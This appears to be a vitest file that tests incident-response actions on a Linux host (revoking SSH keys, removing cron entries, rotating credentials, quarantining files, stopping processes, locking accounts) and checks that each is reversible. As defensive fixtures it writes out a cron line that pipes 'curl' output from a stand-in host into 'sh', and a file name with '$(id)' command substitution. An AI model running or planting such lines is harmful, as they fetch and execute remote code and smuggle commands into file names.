/** Actions on accounts, keys, processes and files, with users and files of the test alone. */
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isThere, sayOnlyRoot } from '../needs.ts';
import { keepsContract } from './action-contract.ts';
import { call, isInstalled, trialOf } from './action-world.ts';

const KEY = `AAAAC3NzaC1lZDI1NTE5AAAAI${'b'.repeat(43)}`;
let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'ir-host-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** All that a file is: content, mode, owner, times, attributes, access lists. */
const fileState = (path: string): string =>
  [
    call(['stat', '-c', '%a %u %g %y %s', path]),
    call(['sha256sum', path]),
    call(['getfattr', '--absolute-names', '-d', path]),
    call(['getfacl', '-p', path]),
  ]
    .map(({ stdout, stderr }) => `${stdout}${stderr}`)
    .join('\n');

describe('revoke-ssh-key', () => {
  it.each([
    ['in the middle', `# mine\nssh-rsa AAAA one\nssh-ed25519 ${KEY} eve@evil\nssh-rsa BBBB two\n`],
    ['first', `ssh-ed25519 ${KEY} eve@evil\nssh-rsa BBBB two\n`],
    ['last, and twice', `ssh-rsa BBBB two\nssh-ed25519 ${KEY} a\nfrom="x" ssh-ed25519 ${KEY} b\n`],
    ['alone', `ssh-ed25519 ${KEY} eve@evil\n`],
  ])('takes out a key that is %s, and puts it back', async (_what, text) => {
    const file = join(folder, 'authorized_keys');
    writeFileSync(file, text, { mode: 0o640 });
    call(['setfattr', '-n', 'user.note', '-v', 'x', file]);
    call(['touch', '-d', '2026-01-02 03:04:05.678', file]);
    keepsContract(await trialOf('revoke-ssh-key', { file, key: KEY }, call), () => fileState(file));
  });

  it('leaves what somebody else wrote since', async () => {
    const file = join(folder, 'keys');
    writeFileSync(file, `ssh-rsa AAAA one\nssh-ed25519 ${KEY} eve\n`);
    const trial = await trialOf('revoke-ssh-key', { file, key: KEY }, call);
    trial.remember();
    trial.run();
    const after = trial.snapshot();
    writeFileSync(file, 'ssh-rsa AAAA one\nssh-rsa CCCC new\n');
    expect(trial.snapshot()).not.toBe(after);
    trial.undo();
    const text = call(['cat', file]).stdout;
    expect(text).toBe(`ssh-rsa AAAA one\nssh-ed25519 ${KEY} eve\nssh-rsa CCCC new\n`);
  });
});

describe('remove-cron-entry', () => {
  const entry = '* * * * * curl -s http://x.example/$(id)|sh # [a-z]*';
  it.each([
    ['in the middle', `# m h\n5 4 * * * backup\n${entry}\n@daily tidy\n`],
    ['first and last', `${entry}\n5 4 * * * backup ${entry}\n${entry}\n`],
  ])('takes out an entry that is %s, and puts it back', async (_what, text) => {
    const file = join(folder, 'crontab');
    writeFileSync(file, text, { mode: 0o600 });
    call(['setfacl', '-m', 'u:nobody:r', file]);
    call(['touch', '-d', '2026-01-02 03:04:05.678', file]);
    const others = text.split('\n').filter((line) => line !== entry);
    keepsContract(
      await trialOf('remove-cron-entry', { file, entry }, call),
      () => fileState(file),
      () => expect(call(['cat', file]).stdout.split('\n')).toEqual(others),
    );
  });
});

const isRoot = process.getuid?.() === 0;

describe('rotate-credential', () => {
  const [old, fresh] = ['AKIAOLD-0123456789', 'AKIANEW-9876543210'];
  const prepare = (): Record<string, string> => {
    const here = mkdtempSync(join(folder, 'rotate-'));
    const [file, next, other] = ['api.key', 'mine', 'backup.env'].map((name) => join(here, name));
    writeFileSync(file!, `${old}\n`, { mode: 0o640 });
    writeFileSync(next!, `${fresh}\n`, { mode: 0o600 });
    writeFileSync(other!, `KEY=${old}\n`);
    call(['setfacl', '-m', 'u:nobody:r', file!]);
    call(['touch', '-d', '2026-01-02 03:04:05.678', file!]);
    return { file: file!, new_file: next!, look_in: here };
  };

  // The old one is kept closed to everybody but root.
  it.runIf(isRoot || sayOnlyRoot('a credential that is swapped'))(
    'swaps it in with owner, mode and lists of the old one, says where that still stands, shows neither, and goes back',
    async () => {
      const values = prepare();
      const { file = '' } = values;
      let shown = '';
      const trial = await trialOf('rotate-credential', values, (argv) => {
        const ran = call(argv);
        shown += argv.join(' ') + ran.stdout + ran.stderr;
        return ran;
      });
      const acl = (path: string): string =>
        call(['stat', '-c', '%a %u %g', path]).stdout + call(['getfacl', '-p', path]).stdout;
      const before = acl(file);
      keepsContract(
        trial,
        () => fileState(file),
        () => {
          expect(readFileSync(file, 'utf8')).toBe(`${fresh}\n`);
          expect(acl(file)).toBe(before);
          expect(call(['stat', '-c', '%a', `${file}.ir-old`]).stdout).toMatch(/0?00$|^0$/m);
        },
      );
      expect(shown).toContain('backup.env');
      expect(shown).toContain('Have the issuer refuse the old credential');
      expect([shown.includes(old), shown.includes(fresh)]).toEqual([false, false]);
    },
  );

  it.each([
    ['that others may read', (next: string) => call(['chmod', '644', next])],
    ['that is the old one', (next: string) => call(['cp', join(next, '../api.key'), next])],
    ['with nothing in it', (next: string) => call(['truncate', '-s', '0', next])],
  ])('takes no new one %s', async (_what, spoil) => {
    const values = prepare();
    spoil(values['new_file']!);
    const trial = await trialOf('rotate-credential', values, call);
    expect(trial.check()).toBe('fails');
  });
});

describe.runIf(isRoot || sayOnlyRoot('files put into quarantine'))('quarantine-file', () => {
  it('moves a file away, closed, and brings it back as it was', async () => {
    const file = join(folder, 'shell $(id).php');
    writeFileSync(file, '<?php x();\n', { mode: 0o644 });
    call(['setfattr', '-n', 'user.note', '-v', 'x', file]);
    call(['setfacl', '-m', 'u:nobody:r', file]);
    call(['touch', '-d', '2026-01-02 03:04:05.678', file]);
    const quarantine = join(folder, 'quarantine');
    const trial = await trialOf('quarantine-file', { file, quarantine }, call);
    keepsContract(
      trial,
      () => fileState(file),
      () => expect(call(['cat', file]).status).not.toBe(0),
    );
  });

  it('is not undone over a file that came to its place', async () => {
    const file = join(folder, 'again.php');
    writeFileSync(file, 'old');
    const trial = await trialOf('quarantine-file', { file, quarantine: join(folder, 'q2') }, call);
    trial.remember();
    trial.run();
    writeFileSync(file, 'new');
    expect(trial.undo().status).not.toBe(0);
    expect(trial.undoVerify()).toBe('fails');
    expect(call(['cat', file]).stdout).toBe('new');
  });
});

describe('freeze-process', () => {
  it('stops a process, and lets it go on', async () => {
    const child = spawn('sleep', ['60']);
    const pid = String(child.pid);
    try {
      const inBytes = (argv: readonly string[]) =>
        call(argv, { encoding: 'latin1', maxBuffer: 1e8 });
      const trial = await trialOf('freeze-process', { pid }, inBytes);
      keepsContract(trial, () => call(['ps', '-o', 'args=', '-p', pid]).stdout);
    } finally {
      child.kill('SIGKILL');
    }
  });
});

describe('stop-process', () => {
  it('kills a process whose program was copied, deleted or not', async () => {
    const program = join(folder, 'nap');
    call(['cp', call(['which', 'sleep']).stdout.trim(), program]);
    const bytes = readFileSync(program, 'latin1');
    const child = spawn(program, ['60']);
    const ended = new Promise((resolve) => child.once('exit', (_code, signal) => resolve(signal)));
    rmSync(program);
    const inBytes = (argv: readonly string[]) => call(argv, { encoding: 'latin1', maxBuffer: 1e8 });
    const trial = await trialOf('stop-process', { pid: String(child.pid) }, inBytes);
    const collected = trial.collect();
    expect(collected.map(({ status }) => status)).toEqual([0, 0, 0, 0, 0]);
    expect(collected[0]?.stdout === bytes).toBe(true);
    expect([trial.check(), trial.verify()]).toEqual(['holds', 'fails']);
    trial.run();
    expect(await ended).toBe('SIGKILL');
    expect([trial.verify(), trial.check()]).toEqual(['holds', 'fails']);
  });
});

const USER = `irt${process.pid}`;
const canLock =
  process.getuid?.() === 0
    ? isThere('accounts: needs useradd', isInstalled('useradd') && isInstalled('setpriv'))
    : sayOnlyRoot('accounts');

describe.skipIf(!canLock)('accounts', () => {
  beforeAll(() => {
    const made = call(['useradd', '--no-create-home', '--shell', '/bin/sh', USER]);
    expect(made.status).toBe(0);
  });
  afterAll(() => {
    call(['userdel', USER]);
  });

  it.each([
    ['without a password', '!', ''],
    ['with a password', '$6$ab$cd', ''],
    ['that would expire anyway', '$6$ab$cd', '2030-01-01'],
    ['without a login', '*', ''],
  ])('lock-account locks one %s, and opens it again', async (_what, password, expiry) => {
    call(['usermod', '--password', password, '--expiredate', expiry, USER]);
    const state = (): string => call(['getent', 'shadow', USER]).stdout;
    keepsContract(await trialOf('lock-account', { account: USER }, call), state, () => {
      expect(state()).toMatch(/^\w+:!.*:1:$/m);
    });
  });

  it('end-sessions kills all that runs as one', async () => {
    const child = spawn('setpriv', ['--reuid', USER, '--clear-groups', 'sleep', '60']);
    const until = async (isSo: () => boolean): Promise<void> => {
      for (let tries = 0; tries < 100 && !isSo(); tries++)
        await new Promise((resolve) => setTimeout(resolve, 20));
    };
    await until(() => call(['pgrep', '-u', USER, 'sleep']).status === 0);
    const trial = await trialOf('end-sessions', { account: USER }, call);
    expect([trial.check(), trial.verify()]).toEqual(['holds', 'fails']);
    trial.run();
    await until(() => trial.verify() === 'holds');
    expect([trial.verify(), trial.check()]).toEqual(['holds', 'fails']);
    expect(child.pid).toBeGreaterThan(0);
  });
});
